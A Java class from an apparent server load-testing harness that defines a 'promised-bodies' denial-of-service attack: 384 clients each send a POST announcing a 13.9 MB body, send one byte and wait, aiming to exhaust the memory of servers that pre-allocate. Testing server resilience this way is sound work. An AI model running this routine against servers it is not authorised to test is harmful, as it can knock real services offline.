package dev.fdlab.load.attack;

import java.io.IOException;
import java.net.Socket;

/** Promises the largest body and sends its first byte: whoever allocates what is promised is out of memory. */
final class PromisedBodies implements Attack {

    private static final int PROMISED = 13_900_000;

    @Override
    public String name() {
        return "promised-bodies";
    }

    @Override
    public String does() {
        return "promises a body of " + PROMISED + " bytes and sends one";
    }

    @Override
    public int clients() {
        return 384;
    }

    @Override
    public void live(Target target) throws IOException {
        try (Socket socket = target.connect()) {
            socket.getOutputStream().write(target.post(PROMISED));
            socket.getOutputStream().write('{');
            socket.getInputStream().read();
        }
    }
}
